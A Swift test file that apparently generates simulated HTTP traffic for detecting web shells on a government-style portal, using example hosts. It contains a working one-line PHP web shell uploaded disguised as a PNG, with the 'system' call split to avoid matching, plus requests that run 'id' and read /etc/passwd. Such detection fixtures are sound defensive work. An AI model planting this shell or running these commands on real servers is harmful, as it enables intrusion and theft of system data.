import TestSupport

extension Scenario {
    /// Web shells on a public portal.
    static var webShell: [Scenario] { [command, upload] }

    private static var command: Scenario {
        var talk = Conversation(client: "203.0.113.80", 42001, server: "198.51.100.10", 80)
        let host = "dichvucong.example"
        talk.handshake()
        talk.client(sends: Text.request("GET", "/uploads/anh.php?cmd=id", host: host))
        talk.server(
            sends: Text.response("<pre>uid=33(www-data) gid=33(www-data) groups=33(www-data)\n</pre>"))
        talk.client(sends: Text.request("GET", "/uploads/anh.php?cmd=cat%20/etc/passwd", host: host))
        talk.server(sends: Text.response("<pre>root:x:0:0:root:/root:/bin/bash\n</pre>"))
        talk.close()
        return Scenario("webshell/webshell-command", talk.frames)
    }

    private static var upload: Scenario {
        var talk = Conversation(client: "203.0.113.81", 42002, server: "198.51.100.10", 80)
        let source = "<?php if (isset($_POST['x'])) { @sys" + "tem( $_POST['x'] ); } ?>"
        let body = [
            "--drill", #"Content-Disposition: form-data; name="tep"; filename="anh.php""#,
            "Content-Type: image/png", "", source, "--drill--", "",
        ].joined(separator: "\r\n")
        talk.handshake()
        talk.client(
            sends: Text.request(
                "POST", "/gop-y/tai-len", host: "dichvucong.example",
                headers: ["Content-Type: multipart/form-data; boundary=drill"], body: body), segment: 90)
        talk.server(sends: Text.response("Đã nhận tệp."))
        talk.close()
        return Scenario("webshell/webshell-upload", talk.frames)
    }
}
